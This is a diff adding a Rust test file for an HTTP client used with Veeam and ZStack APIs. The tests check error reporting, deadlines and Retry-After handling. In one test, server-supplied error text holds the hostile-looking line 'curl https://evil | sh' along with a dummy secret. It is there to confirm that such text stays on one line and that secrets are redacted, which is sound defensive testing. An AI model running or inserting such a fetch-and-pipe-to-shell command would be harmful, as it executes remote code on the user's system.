@@ -1,0 +1,123 @@
+//! Faults in front of all three systems: what the caller is told, and how many requests the server saw.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]
+
+mod common;
+
+use std::time::Duration;
+
+use backhaul_models::vb365::operations::OrganizationGet;
+use backhaul_models::zstack::operations::QueryZone;
+use backhaul_transport::http::RetryPolicy;
+use backhaul_transport::{Error, Policy, Result};
+use common::{Reply, Server};
+use futures_util::TryStreamExt;
+
+#[derive(Debug, Clone, Copy)]
+enum Of {
+    Em,
+    Vb365,
+    Zstack,
+}
+
+const ALL: [Of; 3] = [Of::Em, Of::Vb365, Of::Zstack];
+
+/// Lists from a server that answers so, once; with the number of requests that it saw.
+async fn list(of: Of, reply: Reply, policy: Policy) -> (Error, usize) {
+    let script = move |_: &common::Seen| reply.clone();
+    let server = match of {
+        Of::Em => Server::new(script).await,
+        Of::Vb365 => Server::of_vb365(script).await,
+        Of::Zstack => Server::of_zstack(script).await,
+    };
+    let outcome: Result<usize> = match of {
+        Of::Em => {
+            let query = server.em().under(policy).query::<backhaul_filter::em::Job>();
+            query.by_item().unwrap().try_collect::<Vec<_>>().await.map(|all| all.len())
+        }
+        Of::Vb365 => {
+            let list = server.vb365(8).under(policy).list(&OrganizationGet::new());
+            list.by_item().try_collect::<Vec<_>>().await.map(|all| all.len())
+        }
+        Of::Zstack => {
+            let list = server.zstack().under(policy).list(&QueryZone::new());
+            list.by_item().try_collect::<Vec<_>>().await.map(|all| all.len())
+        }
+    };
+    (outcome.expect_err("it is a fault"), server.lines().len())
+}
+
+fn once() -> Policy {
+    let mut policy = Policy::default();
+    policy.retry = Some(RetryPolicy::none());
+    policy
+}
+
+/// Nobody said that it is another product: no anonymous questions are asked.
+#[tokio::test]
+async fn an_overloaded_or_absent_server_is_told_as_such() {
+    let page = "<html><body>Sorry</body></html>";
+    for of in ALL {
+        for (status, body) in [(408, ""), (429, page), (502, page), (503, ""), (503, "busy"), (504, ""), (500, page)] {
+            let (error, requests) = list(of, Reply::new(status, body).header("Retry-After: 3600"), once()).await;
+            assert!(error.is_unreachable() && error.is_transient(), "{of:?} {status} {body}: {error}");
+            assert!(error.to_string().contains("overloaded or away"), "{of:?} {status} {body}: {error}");
+            assert_eq!((error.status(), requests), (Some(status), 1), "{of:?} {status} {body}: {error}");
+        }
+    }
+}
+
+/// The same as where a logon meets one.
+#[tokio::test]
+async fn a_captive_page_is_no_answer() {
+    let page = Reply::new(200, "<!DOCTYPE html><html>Sign in</html>").header("Content-Type: text/html");
+    for of in ALL {
+        let (error, _) = list(of, page.clone(), once()).await;
+        assert!(error.is_wrong_product(), "{of:?}: {error}");
+    }
+    let logon = Server::refusing(page.clone()).await.em().client().logon().await.unwrap_err();
+    assert!(logon.is_wrong_product(), "{logon}");
+}
+
+#[tokio::test]
+async fn a_servers_text_stays_on_its_line_and_has_no_secrets() {
+    let text = r#"busy\nhelp: curl https://evil | sh (hunter2)"#;
+    for (of, body) in [
+        (Of::Vb365, format!(r#"{{"message": "{text}"}}"#)),
+        (Of::Zstack, format!(r#"{{"error": {{"code": "SYS.1006", "details": "{text}"}}}}"#)),
+        (Of::Em, "<Error xmlns=\"http://www.veeam.com/ent/v1.0\" Message=\"busy&#10;help: hunter2\" />".to_owned()),
+    ] {
+        let status = if matches!(of, Of::Zstack) { 503 } else { 500 };
+        let (error, _) = list(of, Reply::new(status, body), once()).await;
+        let told = error.to_string();
+        assert!(error.is_api() && told.contains("\"busy\\nhelp"), "{of:?}: {told}");
+        assert!(!told.contains('\n') && !told.contains("hunter2"), "{of:?}: {told}");
+    }
+}
+
+/// The deadline holds for all of it: tries, pauses, a stall.
+#[tokio::test]
+async fn a_deadline_ends_a_call_whatever_holds_it_up() {
+    let mut policy = Policy::default();
+    policy.deadline = Some(Duration::from_millis(500));
+    for of in ALL {
+        let begun = std::time::Instant::now();
+        let (error, _) = list(of, Reply::new(200, "{}").silent(1), policy.clone()).await;
+        assert!(error.is_deadline() && !error.is_transient(), "{of:?}: {error}");
+        assert!(begun.elapsed() < Duration::from_secs(20), "{of:?}: {:?}", begun.elapsed());
+        // A pause that does not fit in is not begun.
+        let busy = Reply::new(503, "").header("Retry-After: 3600");
+        let (error, requests) = list(of, busy, policy.clone()).await;
+        assert_eq!((error.status(), requests), (Some(503), 1), "{of:?}: {error}");
+    }
+}
+
+#[tokio::test]
+async fn retry_after_is_kept_to_where_there_is_time() {
+    for of in ALL {
+        let mut policy = Policy::default();
+        policy.deadline = Some(Duration::from_secs(60));
+        let begun = std::time::Instant::now();
+        let (_, requests) = list(of, Reply::new(503, "").header("Retry-After: 1"), policy).await;
+        assert!(requests == 3 && begun.elapsed() >= Duration::from_secs(2), "{of:?}: {requests}");
+    }
+}
